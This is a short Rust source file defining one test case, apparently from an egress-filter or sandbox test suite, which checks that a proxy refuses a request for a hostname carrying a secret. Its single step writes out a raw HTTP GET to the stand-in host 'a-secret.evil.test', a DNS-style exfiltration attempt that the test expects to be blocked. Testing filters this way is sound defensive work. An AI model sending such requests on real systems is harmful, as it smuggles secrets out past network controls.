//! A name in a request.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "name-leaked-by-request",
    family: Family::Dns,
    name: "A name in a request",
    tries: "Asks the proxy for a page of a name that carries a secret and is not allowed.",
    danger: "The proxy resolves names itself: what the filter refuses would leave through it.",
    places: Places::Everywhere,
    steps: &[Step::Tcp(
        Proxy,
        &[Bytes(b"GET http://a-secret.evil.test/ HTTP/1.1\r\nHost: a-secret.evil.test\r\n\r\n")],
    )],
    expect: Expect { refusals: &[refusal("http", "default", "no_rule_allows")], ..NOTHING },
    on_host: None,
};
